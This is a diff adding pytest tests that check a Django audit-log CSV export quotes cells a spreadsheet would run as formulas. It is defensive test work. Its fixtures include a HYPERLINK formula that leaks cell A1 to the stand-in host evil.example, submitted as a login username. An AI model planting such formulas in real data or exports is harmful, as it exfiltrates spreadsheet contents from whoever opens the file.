@@ -11,9 +11,10 @@ from datetime import UTC, datetime
 import pytest
 from asgiref.sync import async_to_sync
 from django.db import connection
+from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
-from registry.api.audit_views import StreamingExportResponse
+from registry.api.audit_views import StreamingExportResponse, _csv_cell
 from registry.models import AuditEvent, Role
 from tests.conftest import make_person
 from tests.registry.audit_factory import append_bulk_events
@@ -221,6 +222,37 @@ def test_jsonl_export_lets_anyone_recompute_the_hashes(owner, auditor):
         record["at"] = datetime.fromisoformat(record["at"])
         event = AuditEvent(**record)
         assert event.compute_hash() == record["hash"]
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
+
+
+def test_csv_export_quotes_cells_a_spreadsheet_would_run_as_formulas(auditor):
+    # A failed login records the name and user agent the caller chose; a username may start with '-'.
+    response = Client().post("/accounts/login/", {"username": HYPERLINK, "password": "x"}, HTTP_USER_AGENT="@SUM(1+1)")
+    assert response.status_code == 200
+    dashed = make_person("-dash", Role.MAINTAINER)
+    _create_models(dashed, "m1")
+    response = auditor.get("/api/v1/audit/export?format=csv")
+    rows = list(csv.reader(io.StringIO(_body(response))))
+    records = {row[5]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}  # by action
+    assert (records["auth.failed"]["target"], records["auth.failed"]["user_agent"]) == ("'" + HYPERLINK, "'@SUM(1+1)")
+    assert records["model.create"]["actor"] == "'-dash"
+    assert records["model.create"]["target"] == "m1"  # nothing else changes
+    # JSONL keeps the exact values, so that hashes can be recomputed from it.
+    lines = [json.loads(line) for line in _body(auditor.get("/api/v1/audit/export?format=jsonl")).splitlines()]
+    failed = next(record for record in lines if record["action"] == "auth.failed")
+    assert (failed["target"], failed["user_agent"]) == (HYPERLINK, "@SUM(1+1)")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_quoted_in_csv(start):
+    assert _csv_cell(start + "1+1") == "'" + start + "1+1"
+
+
+@pytest.mark.parametrize("value", ["plain", "1+1", " =1", "", 42])
+def test_other_cells_are_left_alone(value):
+    assert _csv_cell(value) == value
 
 
 @pytest.mark.parametrize("query", ["format=xml", "format=", ""])
